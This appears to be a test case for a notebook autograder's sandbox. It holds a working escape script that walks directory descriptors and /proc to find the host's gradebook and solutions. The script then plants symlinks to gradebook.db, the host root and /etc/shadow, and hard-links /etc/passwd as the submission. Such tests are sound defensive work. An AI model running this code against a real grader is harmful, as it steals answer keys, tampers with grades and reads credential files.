# No answer is written. Directory file descriptors and links, to make the grader read or
# write a host file: every inherited descriptor is listed and walked with dir_fd, ".." is
# opened from the home directory's descriptor, /proc/*/root and /proc/*/cwd are followed, the
# host paths of the mounts are read from /proc/self/mountinfo and tried; then executed.ipynb
# (the file an earlier grader read back; nothing is read back now) becomes a symlink to the
# course's gradebook.db (the course root is the editable install's directory) and
# submission.ipynb a hard link to /etc/passwd, and a link "up" to the host's /.
# expect: 0
# flag: reads or writes files
# %% preamble
import os
import stat
import sys

seen = []
for fd in range(3, 1024):
    try:
        st = os.fstat(fd)
    except OSError:
        continue
    if stat.S_ISDIR(st.st_mode):
        try:
            seen.append((fd, os.listdir(fd)[:20]))
            up = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            seen.append((f"{fd}/..", os.listdir(up)[:20]))
        except OSError as exc:
            seen.append((fd, str(exc)))
home = os.open(os.path.expanduser("~"), os.O_RDONLY | os.O_DIRECTORY)
for _ in range(6):
    home = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=home)
seen.append(("home/../../..", os.listdir(home)))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for what in ("root", "cwd"):
            try:
                seen.append((f"/proc/{pid}/{what}", os.listdir(f"/proc/{pid}/{what}")[:20]))
            except OSError:
                pass
with open("/proc/self/mountinfo") as f:
    hosts = {line.split()[3] for line in f}
for host in sorted(hosts):
    for name in ("gradebook.db", "nbgrader_config.py", "solutions"):
        if os.path.exists(os.path.join(host, name)):
            seen.append(("found", os.path.join(host, name)))
print(seen)
course = os.path.dirname(sys.prefix)
for name, target in (("executed.ipynb", course + "/gradebook.db"),
                     ("up", "../../../../../../"), ("shadow", "/etc/shadow")):
    try:
        os.symlink(target, name)
    except OSError as exc:
        print(name, exc)
try:
    os.link("/etc/passwd", "passwd.ipynb")
except OSError as exc:
    print("hard link:", exc)
try:
    os.rename("passwd.ipynb", "submission.ipynb")
except OSError as exc:
    print("rename:", exc)
